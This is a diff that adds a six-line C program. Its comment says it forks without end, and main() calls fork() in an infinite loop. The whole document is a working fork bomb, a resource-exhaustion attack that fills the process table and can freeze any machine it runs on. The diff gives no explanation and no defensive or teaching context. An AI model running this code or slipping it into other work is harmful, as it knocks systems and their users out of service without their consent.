@@ -1,0 +1,6 @@
+/* Forks without end, in every process. */
+#include <unistd.h>
+
+int main(void) {
+  for (;;) (void)!fork();
+}
